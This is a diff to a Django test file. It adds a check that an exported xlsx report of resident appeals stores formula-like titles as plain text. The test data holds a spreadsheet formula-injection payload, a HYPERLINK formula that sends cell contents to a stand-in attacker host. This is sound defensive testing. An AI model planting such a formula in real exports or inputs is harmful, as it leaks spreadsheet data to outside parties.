@@ -167,6 +167,13 @@ def test_hotspot_page_roles_and_export(insight_on, make_appeal, users, django_ca
     detail = list(wb["热点问题留言明细表"].values)
     assert len(detail) == 3 and {r[2] for r in detail[1:]} == {"居民0001", "居民0002"}
 
+    # A resident's title that a spreadsheet would run (formula injection) is written as text.
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'
+    Appeal.objects.filter(pk=a.pk).update(title=formula, content="=1+1")
+    wb = load_workbook(io.BytesIO(login(users["leader"]).get("/insight/hotspots/export.xlsx").content))
+    cells = [c for row in wb["热点问题留言明细表"].iter_rows(min_row=2) for c in row if c.value in (formula, "=1+1")]
+    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
+
 
 def test_an_appeal_linking_two_hot_spots_merges_them(insight_on, make_appeal, users,
                                                      django_capture_on_commit_callbacks):
